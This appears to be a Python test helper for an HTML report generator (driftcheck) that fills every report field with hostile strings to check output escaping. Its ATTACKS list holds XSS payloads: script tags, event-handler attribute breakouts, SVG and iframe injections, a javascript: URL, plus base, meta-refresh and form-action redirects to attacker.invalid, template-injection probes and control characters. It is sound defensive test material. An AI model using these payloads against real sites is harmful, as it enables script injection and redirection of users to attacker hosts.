"""Reports for the HTML page beyond those of `reports`: an active text in every field that holds text."""

from __future__ import annotations

from driftcheck.model import (
    Change,
    ChangeClass,
    ChangeKind,
    Comparison,
    DeclaredSummary,
    Finding,
    Impact,
    LiveSummary,
    Location,
    Report,
    Severity,
    Status,
    Suppression,
)
from driftcheck.paths import Item
from tests.formats.reports import report

ATTACKS = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 2</script>",
    "</style><script>window.ran = 3</script>",
    "</title></textarea><img src=x onerror='window.ran = 4'>",
    '" onmouseover="window.ran = 5" autofocus onfocus="window.ran = 5" x="',
    "' onclick='window.ran = 6' '",
    "javascript:window.ran=7",
    "<svg onload=window.ran=8><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<iframe srcdoc='<script>parent.ran = 9</script>'></iframe>",
    "<base href='https://attacker.invalid/'><link rel=stylesheet href='//attacker.invalid/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<form id=filters action='https://attacker.invalid/'><input name=name autofocus></form>",
    "<!-- --!> <![CDATA[ ]]> <plaintext>",
    "{{ 7 * 7 }}{% raw %}{# #}",
    "&lt;script&gt;window.ran = 10&lt;/script&gt;",
    "\x00\x1b]0;title\x07\u202e\u2066\u200b\u2028\ud800",
)


def hostile(attack: str) -> Report:
    """Build a report that holds the text in every field of the data."""
    place = Location(attack, 1, 1)
    ignore = Suppression(attack, attack, place)
    path = ("source_config", attack, Item("name", attack), 0)
    changes = tuple(
        Change(
            kind,
            (*path, number),
            None if kind is ChangeKind.ADDED else value,
            None if kind is ChangeKind.REMOVED else value,
            place,
            Impact.RECREATE,
            ChangeClass.CONFLICT,
            base=value,
            declared_effective=attack,
            live_effective=attack,
            suppressed=suppressed,
        )
        for number, (kind, value, suppressed) in enumerate(
            (kind, value, suppressed)
            for kind in ChangeKind
            for value in (attack, attack * 100, {attack: [attack] * 3, "other": attack})
            for suppressed in (None, ignore)
        )
    )
    facts = {"source": attack, "type": attack, "status": attack, "pending_since": attack, attack: attack}
    findings = tuple(
        Finding(attack, Severity.ERROR, attack, attack, deployment, path, place, (place,), suppressed)
        for deployment in (attack, f"another {attack}", None)
        for suppressed in (None, ignore)
    )
    return report(
        Comparison(attack, Status.UNKNOWN, attack, place, changes, (path,), 3, facts),
        findings=findings,
        command="audit",
        live=LiveSummary(attack, attack, attack, 1, 1, 1, False, (attack,), {attack: attack}),
        declared=DeclaredSummary((attack, attack), 1, False, attack),
    )
